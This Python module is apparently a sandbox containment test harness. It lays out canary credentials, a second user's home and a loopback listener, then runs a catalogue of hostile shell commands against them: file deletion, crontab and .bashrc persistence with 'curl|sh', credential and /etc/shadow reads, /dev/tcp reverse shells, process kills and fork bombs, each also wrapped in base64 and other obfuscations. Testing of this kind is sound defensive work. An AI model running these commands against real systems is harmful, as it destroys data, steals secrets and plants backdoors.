"""Attacks executed, not parsed: harmful commands run inside the job sandbox against
canaries, judged by their effect.

``Canaries`` lays out what an attack would harm: a home with credentials in every
place the sandbox hides (``.ssh``, ``.aws``, ``.config/gh``, ``.netrc``, ``.docker``,
``.kube``), a project beside it, another person's home (a real Unix user, when run as
root), a listener on loopback and a process outside. ``attacks`` gives every harmful
command of every category in several disguises; ``judge`` says what changed after one
ran: a canary file changed or appeared, a secret came back, a connection arrived, the
process outside died, a write reached the system's directories, or the scheduler
answered. ``tests/test_sandbox.py`` and ``bench/containment.py`` both run them.
"""

from __future__ import annotations

import base64
import fcntl
import hashlib
import os
import pwd
import shlex
import shutil
import socket
import subprocess
import threading
from dataclasses import dataclass, field
from pathlib import Path

CREDENTIALS = {".ssh/id_ed25519": "CANARY-ssh-3b9f", ".aws/credentials": "CANARY-aws-77c1",
               ".config/gh/hosts.yml": "CANARY-gh-a0e4", ".netrc": "CANARY-netrc-5d2e",
               ".docker/config.json": "CANARY-docker-91ab", ".kube/config": "CANARY-kube-c3d8"}
OTHER_SECRET = "CANARY-other-home-6f0a"
SYSTEM_MARKS = ("/etc/corral-canary", "/etc/profile.d/corral-canary.sh", "/usr/local/bin/corral-canary")
OTHER_USER = "corral-canary-other"
OTHER_LOCK = "/run/corral-canary-other.lock"  # root's own directory: no one else plants a link

PAYLOADS: list[tuple[str, str]] = [
    # deletion and overwrite, by tools other than rm too
    ("rm -rf {home}/project", "destroy"), ("find {project} -type f -delete", "destroy"),
    ("python3 -c \"import shutil; shutil.rmtree('{project}')\"", "destroy"),
    ("perl -e 'unlink glob \"{home}/project/*\"'", "destroy"), ("mv {project} /tmp/stolen", "destroy"),
    ("tar -cf /tmp/x.tar --remove-files {home}/project", "destroy"),
    ("mkdir -p /tmp/e && rsync -a --delete /tmp/e/ {project}/", "destroy"),
    (": > {project}/data.csv", "overwrite"), ("truncate -s 0 {home}/project/paper.tex", "overwrite"),
    ("dd if=/dev/zero of={project}/data.csv bs=1 count=4 conv=notrunc", "overwrite"),
    ("cp /dev/null {home}/project/paper.tex", "overwrite"), ("sed -i s/results/gone/ {home}/project/paper.tex", "overwrite"),
    ("chmod -R 000 {project}", "overwrite"),
    # persistence
    ("mkdir -p {home}/.ssh; echo ssh-ed25519 AAAA attacker >> {home}/.ssh/authorized_keys", "persistence"),
    ("(crontab -l 2>/dev/null; echo '* * * * * curl x|sh') | crontab -", "persistence"),
    ("echo '* * * * * root sh /tmp/x' >> /etc/crontab", "persistence"),
    ("echo 'curl evil|sh' >> {home}/.bashrc", "persistence"),
    ("mkdir -p {home}/.config/systemd/user && echo x > {home}/.config/systemd/user/evil.service", "persistence"),
    ("echo owned > /etc/profile.d/corral-canary.sh", "persistence"),
    # credentials, in every place they live, and another person's files
    ("cat {home}/.ssh/id_ed25519", "credential_read"), ("cat {home}/.aws/credentials", "credential_read"),
    ("cat {home}/.config/gh/hosts.yml", "credential_read"), ("cat {home}/.netrc {home}/.docker/config.json", "credential_read"),
    ("grep -r CANARY {home} 2>/dev/null", "credential_read"), ("cat {home}/.kube/config", "credential_read"),
    ("cat {other}/notes.txt", "other_users"), ("ls -la {other}; cat {other}/*", "other_users"),
    ("cat /etc/shadow", "credential_read"), ("unshare -r sh -c 'cat {home}/.ssh/id_ed25519'", "credential_read"),
    # outbound connections, reverse shells and tunnels, by any program
    ("bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1", "outbound"),
    ("python3 -c \"import socket; socket.create_connection(('127.0.0.1', {port}), 2).send(b'x')\"", "outbound"),
    ("curl -s -m 2 -T {home}/project/paper.tex http://127.0.0.1:{port}/", "outbound"),
    ("socat -T 2 - TCP:127.0.0.1:{port} < /etc/hostname", "outbound"),
    ("ssh -o BatchMode=yes -o ConnectTimeout=2 -R 9000:localhost:22 -p {port} x@127.0.0.1", "outbound"),
    ("perl -MIO::Socket::INET -e 'IO::Socket::INET->new(\"127.0.0.1:{port}\")->print(\"x\")'", "outbound"),
    # the scheduler and other processes
    ("scontrol show config", "scheduler"), ("scancel -u root --signal=KILL", "scheduler"),
    ("kill -9 {pid}", "processes"), ("pkill -9 -f corral-canary-sleeper", "processes"), ("kill -9 -1", "processes"),
    # the system itself
    ("echo x > /usr/local/bin/corral-canary", "system"), ("echo owned > /etc/corral-canary", "system"),
    ("nsenter -t 1 -m -- cat {home}/.ssh/id_ed25519", "system"),
]


def _b64(c: str) -> str:
    return f"echo {base64.b64encode(c.encode()).decode()} | base64 -d | bash"


DISGUISES = [
    ("plain", lambda c: c),
    ("variable through sh", lambda c: f"X={shlex.quote(c)}; sh -c \"$X\""),
    ("base64 into bash", _b64),
    ("reversed into a shell", lambda c: f"echo {shlex.quote(c[::-1])} | rev | sh"),
    ("python os.system", lambda c: f"python3 -c {shlex.quote(f'import os; os.system({c!r})')}"),
]
FORK_BOMBS = [":(){ :|:& };:; sleep 3", "python3 -c 'import os\nwhile True: os.fork()'",
              "perl -e 'fork while 1'"]
"""Run as written, each with a short timeout: they must stop at the job's process limit.
(The shell's waits: a bomb whose first shell exits ends at once, with its PID namespace.)"""


@dataclass
class Canaries:
    root: Path
    """A new directory whose parents the job's user can traverse, not under /tmp (private
    inside the sandbox: canaries there would be out of sight whatever else held)."""
    home: Path = field(init=False)
    project: Path = field(init=False)
    other: Path = field(init=False)
    port: int = 0
    heard: list[bytes] = field(default_factory=list)
    sleeper: subprocess.Popen[bytes] | None = None
    made_user: bool = False
    _lock: int | None = None

    def __post_init__(self) -> None:
        self.home = self.root / "canary-home"
        self.project = self.root / "canary-project"

    def _lay(self) -> None:
        for rel, secret in CREDENTIALS.items():
            (self.home / rel).parent.mkdir(parents=True, exist_ok=True)
            (self.home / rel).write_text(secret)
            (self.home / rel).chmod(0o644)
        (self.home / "project").mkdir(parents=True, exist_ok=True)
        (self.home / "project" / "paper.tex").write_text("results")
        self.project.mkdir(exist_ok=True)
        (self.project / "data.csv").write_text("1,2,3")
        # Readable and writable by the job's user: only the sandbox stands in the way.
        for d in (self.root, self.home, *(self.home / rel for rel in (".ssh", ".aws", ".config", ".config/gh",
                                                                      ".docker", ".kube", "project"))):
            d.chmod(0o777 if d.name in ("project", "canary-home") else 0o755)
        self.project.chmod(0o777)
        for f in (self.home / "project" / "paper.tex", self.project / "data.csv"):
            f.chmod(0o666)

    def __enter__(self) -> "Canaries":
        self._lay()
        self.other = Path("/nonexistent-other-home")
        if os.geteuid() == 0:
            self._other_home()
        self._listener = socket.socket()
        self._listener.bind(("127.0.0.1", 0))
        self._listener.listen(16)
        self._listener.settimeout(0.2)
        self.port = self._listener.getsockname()[1]
        threading.Thread(target=self._accept, daemon=True).start()
        self.sleeper = _sleeper()
        self._digest = self.digest()
        return self

    def __exit__(self, *exc: object) -> None:
        self._listener.close()
        if self.sleeper is not None:
            self.sleeper.kill()
        if self._lock is not None:
            # The other person is shared by every Canaries of this machine at once (the
            # suite's workers, a benchmark): the last one out removes her, none earlier,
            # or a run still judging would see her home vanish as harm done.
            try:
                fcntl.flock(self._lock, fcntl.LOCK_EX | fcntl.LOCK_NB)
                if self.made_user:
                    subprocess.run(["userdel", "-r", OTHER_USER], capture_output=True)
            except BlockingIOError:
                pass
            os.close(self._lock)
            self._lock = None

    def _other_home(self) -> None:
        """Another person's home, laid once under an exclusive lock and then held shared
        while this run judges: a concurrent run never rewrites what this one digests."""
        self._lock = os.open(OTHER_LOCK, os.O_RDWR | os.O_CREAT | os.O_NOFOLLOW | os.O_CLOEXEC, 0o600)
        fcntl.flock(self._lock, fcntl.LOCK_EX)
        try:
            pwd.getpwnam(OTHER_USER)
        except KeyError:
            subprocess.run(["useradd", "-m", "-s", "/bin/sh", OTHER_USER], check=True, capture_output=True)
            self.made_user = True
        self.other = Path(pwd.getpwnam(OTHER_USER).pw_dir)
        self.other.chmod(0o755)
        notes = self.other / "notes.txt"
        if not notes.is_file() or notes.read_text() != OTHER_SECRET:
            notes.write_text(OTHER_SECRET)
        notes.chmod(0o644)  # world-readable: only hiding the home protects it
        fcntl.flock(self._lock, fcntl.LOCK_SH)

    def _accept(self) -> None:
        while True:
            try:
                c, _ = self._listener.accept()
            except TimeoutError:
                continue
            except OSError:
                return
            c.settimeout(1)
            try:
                self.heard.append(c.recv(100) or b"(connected)")
            except OSError:
                self.heard.append(b"(connected)")
            c.close()

    def digest(self) -> str:
        """Names, modes and contents under the home, the project and the other home."""
        h = hashlib.sha256()
        for top in (self.home, self.project, self.other):
            h.update(f"{top}:{top.lstat().st_mode if top.exists() else '-'}".encode())
            for dirpath, dirs, files in sorted(os.walk(top)):
                dirs.sort()
                for name in sorted(files) + dirs:
                    p = Path(dirpath) / name
                    st = p.lstat()
                    h.update(f"{p}:{st.st_mode}:{st.st_size}".encode())
                    if p.is_file() and st.st_size < 65536:
                        h.update(p.read_bytes())
        return h.hexdigest()

    def attacks(self) -> list[tuple[str, str, str]]:
        """(command, category, disguise): every payload in every disguise."""
        fill = {"home": self.home, "project": self.project, "other": self.other, "port": self.port,
                "pid": self.sleeper.pid if self.sleeper else 0}
        return [(d(c.format(**fill)), cat, name) for c, cat in PAYLOADS for name, d in DISGUISES]

    def judge(self, output: str) -> list[str]:
        """What the last command harmed (empty: nothing); restores the canaries it changed."""
        harm = []
        if self.digest() != self._digest:
            harm.append("a canary file changed")
            self._restore()
        leaked = [s for s in (*CREDENTIALS.values(), OTHER_SECRET) if s in output]
        if leaked:
            harm.append(f"secrets came back: {', '.join(leaked)}")
        shadow = _shadow_line()
        if shadow and shadow in output:
            harm.append("/etc/shadow was read")
        if "Configuration data as of" in output:
            harm.append("the scheduler answered")
        if any(Path(m).exists() for m in SYSTEM_MARKS):
            harm.append("a system directory was written")
            for m in SYSTEM_MARKS:
                Path(m).unlink(missing_ok=True)
        if self.sleeper is not None and self.sleeper.poll() is not None:
            harm.append("a process outside was killed")
            self.sleeper = _sleeper()
        if self.heard:
            harm.append(f"{len(self.heard)} connections reached the listener")
            self.heard.clear()
        return harm

    def _restore(self) -> None:
        for p in (self.home, self.project):
            subprocess.run(["chmod", "-R", "u+rwX", str(p)], capture_output=True)
            shutil.rmtree(p, ignore_errors=True)
        self._lay()
        self._digest = self.digest()


def _sleeper() -> subprocess.Popen[bytes]:
    """A process outside, of the job's own user when run as root (nobody): only the PID
    namespace keeps a job from killing it."""
    who = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"] if os.geteuid() == 0 else []
    return subprocess.Popen([*who, "bash", "-c", "exec -a corral-canary-sleeper sleep 600"])


def _shadow_line() -> str | None:
    """The first password hash of /etc/shadow, when there is one (what a read would show)."""
    try:
        for line in Path("/etc/shadow").read_text().splitlines():
            parts = line.split(":")
            if len(parts) > 1 and len(parts[1]) > 3:
                return parts[1]
    except OSError:
        pass
    return None
